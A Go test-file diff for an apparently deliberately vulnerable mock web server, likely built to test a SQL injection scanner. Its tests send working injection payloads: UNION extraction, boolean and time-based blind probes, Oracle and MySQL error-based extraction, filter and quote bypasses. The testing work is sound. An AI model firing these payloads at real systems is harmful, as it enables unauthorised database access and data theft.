@@ -1,11 +1,13 @@
 package testutil
 
 import (
+	"encoding/json"
 	"io"
 	"net/http"
 	"net/url"
 	"strings"
 	"testing"
+	"time"
 )
 
 func TestVulnServer_ErrorMySQL_Normal(t *testing.T) {
@@ -126,6 +128,38 @@ func TestVulnServer_ErrorPostgres_CastError(t *testing.T) {
 	}
 }
 
+func TestVulnServer_ErrorOracle(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		name  string
+		input string
+		want  string
+	}{
+		{"normal", "1", "Item 1: Widget"},
+		{"unclosed quote", "1'", "ORA-01756: quoted string not properly terminated"},
+		{"union without FROM", "1 UNION SELECT 1,2-- ", "ORA-00923"},
+		{"union from dual", "0 UNION SELECT 7,'seven' FROM dual-- ", "Item 7: seven"},
+		{"thesaurus lookup", "1 AND 1=CTXSYS.DRITHSX.SN(1,CHR(126)||(USER)||CHR(126))-- ", "DRG-11701: thesaurus ~SHOP~ does not exist"},
+		{"host lookup", "1 AND 1=UTL_INADDR.GET_HOST_NAME(CHR(126)||(SELECT banner FROM v$version WHERE ROWNUM=1)||CHR(126))-- ", "ORA-29257: host ~" + mockVersionOracle + "~ unknown"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			resp, err := http.Get(srv.URL + "/vuln/error-oracle?id=" + url.QueryEscape(tt.input))
+			if err != nil {
+				t.Fatalf("request failed: %v", err)
+			}
+			defer resp.Body.Close()
+
+			body, _ := io.ReadAll(resp.Body)
+			if !strings.Contains(string(body), tt.want) {
+				t.Errorf("body does not contain %q, got: %s", tt.want, body)
+			}
+		})
+	}
+}
+
 func TestVulnServer_Boolean_True(t *testing.T) {
 	srv := NewVulnServer()
 	defer srv.Close()
@@ -162,6 +196,39 @@ func TestVulnServer_Boolean_False(t *testing.T) {
 	}
 }
 
+func TestVulnServer_BooleanStatus(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		id   string
+		want int
+	}{
+		{"1", http.StatusOK},
+		{"1 AND 1=1", http.StatusOK},
+		{"1 AND 1=2", http.StatusNotFound},
+		{"1'", http.StatusNotFound},
+	}
+	var pages []string
+	for _, tt := range tests {
+		resp, err := http.Get(srv.URL + "/vuln/boolean-status?id=" + url.QueryEscape(tt.id))
+		if err != nil {
+			t.Fatalf("request failed: %v", err)
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != tt.want {
+			t.Errorf("id=%q: status = %d, want %d", tt.id, resp.StatusCode, tt.want)
+		}
+		pages = append(pages, string(body))
+	}
+	for i, page := range pages[1:] {
+		if page != pages[0] {
+			t.Errorf("id=%q: body %q differs from %q; only the status should vary", tests[i+1].id, page, pages[0])
+		}
+	}
+}
+
 func TestVulnServer_Boolean_ASCIISubstring(t *testing.T) {
 	srv := NewVulnServer()
 	defer srv.Close()
@@ -356,3 +423,377 @@ func TestVulnServer_Post_BooleanFalse(t *testing.T) {
 		t.Errorf("AND 1=2 should return false page, got: %s", bodyStr)
 	}
 }
+
+func TestVulnServer_Split(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		name, city string
+		want       string
+	}{
+		{"admin", "paris", "Contact: admin"},
+		{"admin", "london", "No contacts match"},
+		// city escapes quotes, so a quote there stays inside the literal.
+		{"admin", "paris' OR '1'='1", "No contacts match"},
+		// name passes quotes through, so a lone quote breaks the query.
+		{"admin'", "paris", "error in your SQL syntax"},
+		// name strips comment characters and is length-capped.
+		{"admin' OR 1=1-- -", "paris", "error in your SQL syntax"},
+		// Split across both parameters: the block comment bridges them.
+		{"admin'/*", "*/ AND 1=1-- -", "Contact: admin"},
+		{"admin'/*", "*/ AND 1=2-- -", "No contacts match"},
+		// First half alone leaves the comment unterminated.
+		{"admin'/*", "paris", "error in your SQL syntax"},
+	}
+
+	for _, tt := range tests {
+		q := url.Values{"name": {tt.name}, "city": {tt.city}}
+		resp, err := http.Get(srv.URL + "/vuln/split?" + q.Encode())
+		if err != nil {
+			t.Fatalf("request failed: %v", err)
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+
+		if !strings.Contains(string(body), tt.want) {
+			t.Errorf("name=%q city=%q: body does not contain %q, got: %s", tt.name, tt.city, tt.want, body)
+		}
+	}
+}
+
+func TestVulnServer_Locale(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		id       string
+		wantLang string
+		wantText string
+	}{
+		{"1", "ja", "おかえりなさい"},
+		{"1 AND 1=1", "ja", "おかえりなさい"},
+		{"1 AND 1=2", "en", "Welcome back"},
+		{"1' AND '1'='2", "en", "Welcome back"},
+		{"1'", "en", "Welcome back"},
+	}
+	for _, tt := range tests {
+		resp, err := http.Get(srv.URL + "/vuln/locale?id=" + url.QueryEscape(tt.id))
+		if err != nil {
+			t.Fatalf("GET: %v", err)
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+
+		if got := resp.Header.Get("Content-Language"); got != tt.wantLang {
+			t.Errorf("id=%q: Content-Language = %q, want %q", tt.id, got, tt.wantLang)
+		}
+		if !strings.Contains(string(body), `<html lang="`+tt.wantLang+`">`) {
+			t.Errorf("id=%q: missing html lang %q", tt.id, tt.wantLang)
+		}
+		if !strings.Contains(string(body), tt.wantText) {
+			t.Errorf("id=%q: body missing %q", tt.id, tt.wantText)
+		}
+	}
+}
+
+// get fetches path from srv and returns the body.
+func get(t *testing.T, srvURL, path string) string {
+	t.Helper()
+	resp, err := http.Get(srvURL + path)
+	if err != nil {
+		t.Fatalf("GET %s: %v", path, err)
+	}
+	defer resp.Body.Close()
+	body, _ := io.ReadAll(resp.Body)
+	return string(body)
+}
+
+func TestVulnServer_Boolean_NestedSubstring(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	// SUBSTRING(SUBSTRING('8.0.32',3,4),2,1) is '.' (46).
+	tests := []struct {
+		id   string
+		want string
+	}{
+		{"1 AND ASCII(SUBSTRING(SUBSTRING((@@version),3,4),2,1))>45", "Welcome! Your item: Widget"},
+		{"1 AND ASCII(SUBSTRING(SUBSTRING((@@version),3,4),2,1))>46", "No items found"},
+		{"1 AND (SELECT COUNT(*) FROM users)=2", "Welcome! Your item: Widget"},
+	}
+	for _, tt := range tests {
+		if body := get(t, srv.URL, "/vuln/boolean?id="+url.QueryEscape(tt.id)); !strings.Contains(body, tt.want) {
+			t.Errorf("id=%q: body does not contain %q, got: %s", tt.id, tt.want, body)
+		}
+	}
+}
+
+func TestVulnServer_Like(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		q    string
+		want string
+		not  string
+	}{
+		{"wid", "Wide widget", "Gadget"},
+		{"gadget", "Gadget", "Widget"},
+		{"nothing", "No products match", ""},
+		// Closing the pattern: the rest of the original query is commented out.
+		{"zzz%' OR '1'='1'-- -", "Sprocket", ""},
+		{"zzz%' AND 1=2-- -", "No products match", ""},
+		{"wid'", "error in your SQL syntax", ""},
+		{"%' UNION SELECT 1,USER(),3-- -", "root@localhost", ""},
+	}
+	for _, tt := range tests {
+		body := get(t, srv.URL, "/vuln/like?q="+url.QueryEscape(tt.q))
+		if !strings.Contains(body, tt.want) {
+			t.Errorf("q=%q: body does not contain %q, got: %s", tt.q, tt.want, body)
+		}
+		if tt.not != "" && strings.Contains(body, tt.not) {
+			t.Errorf("q=%q: body contains %q, got: %s", tt.q, tt.not, body)
+		}
+	}
+}
+
+func TestVulnServer_UnionErrorSurface(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		path, input string
+		want, not   string
+	}{
+		{"/vuln/union-mysql", "1 ORDER BY 3-- -", "Unknown column '3' in 'order clause'", ""},
+		{"/vuln/union-postgres", "1 ORDER BY 3-- -", "Unknown column '3' in 'order clause'", "ORDER BY position"},
+		{"/vuln/union-mysql", "1'", "Name: Widget", "SQL syntax"},
+		{"/vuln/union-mysql", "1 AND 1=2", "Name: Widget", ""},
+		{"/vuln/union-mysql", "-1 UNION SELECT 9-- -", "Name: Widget", "different number of columns"},
+		{"/vuln/union-mysql", "-1 UNION SELECT 9,'sqleech3z9'-- -", "Name: sqleech3z9", "Name: Widget"},
+		{"/vuln/union-postgres", "1 AND 1=CAST(version() AS int)", "<h1>Users</h1>", "invalid input syntax"},
+		{"/vuln/union-mysql-errors", "1'", "SQL syntax", ""},
+		{"/vuln/union-postgres-errors", "1 ORDER BY 3-- -", "ORDER BY position 3 is not in select list", ""},
+	}
+	for _, tt := range tests {
+		body := get(t, srv.URL, tt.path+"?id="+url.QueryEscape(tt.input))
+		if !strings.Contains(body, tt.want) {
+			t.Errorf("%s id=%q: body does not contain %q, got: %s", tt.path, tt.input, tt.want, body)
+		}
+		if tt.not != "" && strings.Contains(body, tt.not) {
+			t.Errorf("%s id=%q: body contains %q, got: %s", tt.path, tt.input, tt.not, body)
+		}
+	}
+}
+
+func TestVulnServer_UnionCapped(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	// Only the first row is shown, so the original row hides the UNION row.
+	body := get(t, srv.URL, "/vuln/union-capped?id="+url.QueryEscape("1 UNION SELECT 9,'sqleech3z9'-- -"))
+	if !strings.Contains(body, "Name: Widget") || strings.Contains(body, "sqleech3z9") {
+		t.Errorf("id=1 UNION: want only the original row, got: %s", body)
+	}
+	body = get(t, srv.URL, "/vuln/union-capped?id="+url.QueryEscape("-1 UNION SELECT 9,'sqleech3z9'-- -"))
+	if !strings.Contains(body, "Name: sqleech3z9") {
+		t.Errorf("id=-1 UNION: want the UNION row, got: %s", body)
+	}
+	body = get(t, srv.URL, "/vuln/union-capped?id="+url.QueryEscape("-1 UNION SELECT 9-- -"))
+	if !strings.Contains(body, "different number of columns") {
+		t.Errorf("UNION with 1 column: want column count error, got: %s", body)
+	}
+	body = get(t, srv.URL, "/vuln/union-capped?id="+url.QueryEscape("1 ORDER BY 3-- -"))
+	if !strings.Contains(body, "Unknown column '3' in 'order clause'") {
+		t.Errorf("ORDER BY 3: want order clause error, got: %s", body)
+	}
+}
+
+func TestVulnServer_UnionFiltered(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	resp, err := http.Get(srv.URL + "/vuln/union-filtered?id=" + url.QueryEscape("1 order by 1-- -"))
+	if err != nil {
+		t.Fatalf("GET: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("ORDER BY: status = %d, want 403", resp.StatusCode)
+	}
+
+	body := get(t, srv.URL, "/vuln/union-filtered?id="+url.QueryEscape("1 UNION SELECT NULL-- -"))
+	if !strings.Contains(body, "different number of columns") {
+		t.Errorf("UNION with 1 column: want column count error, got: %s", body)
+	}
+	body = get(t, srv.URL, "/vuln/union-filtered?id="+url.QueryEscape("1 UNION SELECT NULL,NULL-- -"))
+	if !strings.Contains(body, "Name: Widget") || strings.Contains(body, "Error") {
+		t.Errorf("UNION with 2 columns: want the product page, got: %s", body)
+	}
+}
+
+func TestVulnServer_NoQuote(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	resp, err := http.Get(srv.URL + "/vuln/noquote?id=" + url.QueryEscape("1 UNION SELECT NULL,'x'-- -"))
+	if err != nil {
+		t.Fatalf("GET: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("quoted literal: status = %d, want 403", resp.StatusCode)
+	}
+
+	body := get(t, srv.URL, "/vuln/noquote?id="+url.QueryEscape("-1 UNION SELECT NULL,0x78797a-- -"))
+	if !strings.Contains(body, "xyz") {
+		t.Errorf("hex literal: want the decoded value on the page, got: %s", body)
+	}
+}
+
+func TestVulnServer_Paren(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		name string
+		want string
+	}{
+		{"Widget", "Name: Widget"},
+		{"Widget') AND 1=1-- -", "Name: Widget"},
+		{"Widget') AND 1=2-- -", "No results found."},
+		{"Widget' AND 1=1-- -", "You have an error in your SQL syntax"},
+		{"Widget') AND extractvalue(1,concat(0x7e,(@@version)))-- ", "XPATH syntax error"},
+	}
+	for _, tt := range tests {
+		if body := get(t, srv.URL, "/vuln/paren?name="+url.QueryEscape(tt.name)); !strings.Contains(body, tt.want) {
+			t.Errorf("name=%q: body does not contain %q, got: %s", tt.name, tt.want, body)
+		}
+	}
+}
+
+func TestVulnServer_APIProducts(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		id    string
+		count int
+	}{
+		{"1", 1},
+		{"1 AND 1=1", 1},
+		{"1 AND 1=2", 0},
+		{"1 OR 1=1", 4},
+		// Errors are swallowed and answer an empty array.
+		{"1'", 0},
+	}
+	seen := make(map[string]bool)
+	for _, tt := range tests {
+		resp, err := http.Get(srv.URL + "/vuln/api/products?id=" + url.QueryEscape(tt.id))
+		if err != nil {
+			t.Fatalf("GET: %v", err)
+		}
+		var body struct {
+			Data      []map[string]string `json:"data"`
+			Count     int                 `json:"count"`
+			RequestID string              `json:"requestId"`
+		}
+		err = json.NewDecoder(resp.Body).Decode(&body)
+		resp.Body.Close()
+		if err != nil {
+			t.Fatalf("id=%q: decoding body: %v", tt.id, err)
+		}
+
+		if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
+			t.Errorf("id=%q: Content-Type = %q, want application/json", tt.id, ct)
+		}
+		if len(body.Data) != tt.count || body.Count != tt.count {
+			t.Errorf("id=%q: %d rows (count %d), want %d", tt.id, len(body.Data), body.Count, tt.count)
+		}
+		if seen[body.RequestID] {
+			t.Errorf("id=%q: requestId %q repeated", tt.id, body.RequestID)
+		}
+		seen[body.RequestID] = true
+	}
+}
+
+func TestVulnServer_Count(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		id   string
+		want string
+	}{
+		{"1", "1 products in stock"},
+		{"1 AND 1=2", "0 products in stock"},
+		{"1 OR 1=1", "4 products in stock"},
+		{"1 AND ASCII(SUBSTRING(DATABASE(),1,1))=115", "1 products in stock"},
+		// Errors are swallowed and show the empty page.
+		{"1'", "<h1>Catalog</h1></body>"},
+	}
+	for _, tt := range tests {
+		if body := get(t, srv.URL, "/vuln/count?id="+url.QueryEscape(tt.id)); !strings.Contains(body, tt.want) {
+			t.Errorf("id=%q: body does not contain %q, got: %s", tt.id, tt.want, body)
+		}
+	}
+}
+
+func TestVulnServer_TimeBased_Sleep(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		path  string
+		id    string
+		sleep bool
+	}{
+		{"/vuln/timebased-mysql", "1 AND IF(ASCII(SUBSTRING((@@version),1,1))=56,SLEEP(5),0)", true},
+		{"/vuln/timebased-mysql", "1 AND IF(ASCII(SUBSTRING((@@version),1,1))=57,SLEEP(5),0)", false},
+		{"/vuln/timebased-postgres", "1 AND 1=(CASE WHEN (1=1) THEN (SELECT 1 FROM PG_SLEEP(5)) ELSE 1 END)", true},
+		{"/vuln/timebased-postgres", "1 AND 1=(CASE WHEN (1=2) THEN (SELECT 1 FROM PG_SLEEP(5)) ELSE 1 END)", false},
+		{"/vuln/timebased-mssql", "1; IF (1=1) WAITFOR DELAY '0:00:05' -- -", true},
+		{"/vuln/timebased-mssql", "1; IF (1=2) WAITFOR DELAY '0:00:05' -- -", false},
+		{"/vuln/timebased-mssql", "1' ; IF (1=1) WAITFOR DELAY '0:00:05' -- -", false},
+		{"/vuln/timebased-nosleep", "1 AND IF(1=1,SLEEP(5),0)", false},
+		{"/vuln/timebased-nosleep", "1 AND IF(1=1,BENCHMARK(50000000,MD5('x')),0)", true},
+		{"/vuln/timebased-nosleep", "1 AND IF(1=2,BENCHMARK(50000000,MD5('x')),0)", false},
+	}
+	for _, tt := range tests {
+		start := time.Now()
+		get(t, srv.URL, tt.path+"?id="+url.QueryEscape(tt.id))
+		elapsed := time.Since(start)
+		if tt.sleep && elapsed < timebasedSleepCap {
+			t.Errorf("%s id=%q: took %v, want at least %v", tt.path, tt.id, elapsed, timebasedSleepCap)
+		}
+		if !tt.sleep && elapsed >= timebasedSleepCap/2 {
+			t.Errorf("%s id=%q: took %v, want no delay", tt.path, tt.id, elapsed)
+		}
+	}
+}
+
+func TestVulnServer_Paginated(t *testing.T) {
+	srv := NewVulnServer()
+	defer srv.Close()
+
+	tests := []struct {
+		path string
+		want string
+	}{
+		{"/vuln/page-postgres?limit=3", "Sprocket (ID: 3)"},
+		{"/vuln/page-postgres?limit=" + url.QueryEscape("(CASE WHEN (1=2) THEN 3 WHEN 3=0 THEN 1 ELSE 0 END)"), "No more products."},
+		// A condition is no integer, and the error is swallowed.
+		{"/vuln/page-postgres?limit=" + url.QueryEscape("3 AND 1=1"), "No more products."},
+		{"/vuln/page-mysql?offset=2", "Wide widget (ID: 4)"},
+		{"/vuln/page-mysql?offset=" + url.QueryEscape("0 AND 1=1"), "You have an error in your SQL syntax"},
+		{"/vuln/page-mysql?offset=" + url.QueryEscape("0 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,(@@version))),1)"), "XPATH syntax error: '~5.7.44~'"},
+		{"/vuln/page-safe?limit=1", "Widget (ID: 1)"},
+		{"/vuln/page-safe?limit=" + url.QueryEscape("(CASE WHEN (1=1) THEN 1 ELSE 0 END)"), "Invalid page size."},
+	}
+	for _, tt := range tests {
+		if body := get(t, srv.URL, tt.path); !strings.Contains(body, tt.want) {
+			t.Errorf("%s: body does not contain %q, got: %s", tt.path, tt.want, body)
+		}
+	}
+}